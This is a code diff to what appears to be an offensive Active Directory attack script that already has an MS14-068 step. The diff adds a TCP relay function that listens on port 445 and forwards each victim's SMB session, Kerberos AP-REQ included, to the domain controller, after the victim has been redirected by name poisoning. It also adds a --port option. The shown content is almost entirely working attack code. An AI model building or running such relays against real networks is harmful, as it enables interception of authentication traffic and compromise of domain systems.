@@ -1289,6 +1289,58 @@ def step_ms14_068(args):
         out(f"MS14-068 refused: {krb_error(e)[:160]}")
 
 
+def step_tcp_relay(args):
+    """Adversary-in-the-middle: accept TCP connections on --port (445) for --hold seconds and
+    relay each, byte for byte, to the DC. A victim pointed here (name poisoning, -I) runs its
+    SMB session - Kerberos AP-REQ included - through this host to the DC."""
+    import selectors
+    import threading
+
+    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    srv.bind(("0.0.0.0", args.port))
+    srv.listen(4)
+    srv.settimeout(1)
+    out(f"relaying TCP {args.port} -> {DC_IP}:{args.port} for {args.hold:.0f}s")
+
+    def pump(client: socket.socket, peer) -> None:
+        upstream = socket.create_connection((DC_IP, args.port), timeout=10)
+        sel = selectors.DefaultSelector()
+        sel.register(client, selectors.EVENT_READ, upstream)
+        sel.register(upstream, selectors.EVENT_READ, client)
+        moved = {client: 0, upstream: 0}
+        done = False
+        while not done:
+            for key, _ in sel.select(timeout=30) or [(None, None)]:
+                if key is None:
+                    done = True
+                    break
+                data = key.fileobj.recv(65536)
+                if not data:
+                    done = True
+                    break
+                key.data.sendall(data)
+                moved[key.fileobj] += len(data)
+        out(f"relayed {peer[0]}:{peer[1]}: {moved[client]} bytes up, {moved[upstream]} down")
+        client.close()
+        upstream.close()
+
+    deadline = time.monotonic() + args.hold
+    threads = []
+    while time.monotonic() < deadline:
+        try:
+            c, peer = srv.accept()
+        except TimeoutError:
+            continue
+        out(f"victim connection from {peer[0]}:{peer[1]}")
+        t = threading.Thread(target=pump, args=(c, peer), daemon=True)
+        t.start()
+        threads.append(t)
+    srv.close()
+    for t in threads:
+        t.join(timeout=10)
+
+
 STEPS = {name[5:]: fn for name, fn in globals().items() if name.startswith("step_")}
 
 
@@ -1306,6 +1358,7 @@ def main(argv=None) -> int:
     ap.add_argument("--read", nargs="*")
     ap.add_argument("--list", nargs="*")
     ap.add_argument("--hold", type=float, default=0)
+    ap.add_argument("--port", type=int, default=445)
     ap.add_argument("--levels", nargs="*", type=int, default=[10, 502, 1, 0])
     ap.add_argument("--names", nargs="*")
     ap.add_argument("--count", type=int, default=0)
